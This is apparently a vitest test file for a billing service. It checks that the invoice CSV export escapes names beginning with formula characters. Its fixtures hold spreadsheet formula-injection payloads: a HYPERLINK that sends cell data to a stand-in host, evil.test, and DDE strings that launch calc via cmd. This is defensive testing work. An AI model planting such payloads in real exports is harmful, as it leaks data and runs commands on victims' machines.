import { randomUUID } from "node:crypto";
import { describe, expect, it } from "vitest";
import { parse } from "csv-parse/sync";
import { caller, makeActor, makeEndpoint, testDb, uid } from "../test/harness.ts";
import { rollupDirtyHours } from "./rollup.ts";

describe("the invoice CSV", () => {
  it("writes tenant, endpoint and model names that start with = + - @ as text a spreadsheet will not run; amounts stay numbers", async () => {
    const db = testDb();
    const evil = { tenant: '=HYPERLINK("http://evil.test/?"&A1,"Pay here")', endpoint: "+cmd|' /C calc'!A0", model: "-2+3+cmd|' /C calc'!A0" };
    const plan = await db.pricePlan.create({ data: { name: `invoice-${uid()}`, currency: "TRY" } });
    await db.planPrice.create({ data: { planId: plan.id, effectiveFrom: new Date("2026-01-01"), inputPer1M: "20", outputPer1M: "60", perRequest: "0" } });
    const tenant = await db.tenant.create({ data: { name: evil.tenant, slug: `invoice-${uid()}`, pricePlanId: plan.id } });
    const { endpoint, model } = await makeEndpoint();
    await db.endpoint.update({ where: { id: endpoint.id }, data: { name: evil.endpoint } });
    await db.model.update({ where: { id: model.id }, data: { name: evil.model } });
    const at = new Date("2027-02-10T12:00:00Z");
    await db.$executeRaw`INSERT INTO "CallLog" ("requestId", "tenantId", "apiKeyId", "endpointId", "endpointVersionId", "startedAt", "endedAt", status, "promptTokens", "completionTokens", region)
      VALUES (${randomUUID()}, ${tenant.id}, 'k', ${endpoint.id}, ${endpoint.versions[0]!.id}, ${at}, ${new Date(at.getTime() + 100)}, 200, 1000000, 1000000, 'tr-ist')`;
    await rollupDirtyHours(db);
    const invoice = await caller(await makeActor("tenant", tenant.id)).usage.invoice({ month: "2027-02" });
    const [, line, total] = parse(invoice.csv, { bom: true }) as string[][];
    expect(line).toEqual([`'${evil.tenant}`, "2027-02", `'${evil.endpoint}`, `'${evil.model}`, "1", "1000000", "1000000", "80.00"]);
    expect(total).toEqual([`'${evil.tenant}`, "2027-02", "Total", "", "", "", "", "80.00"]);
  });
});
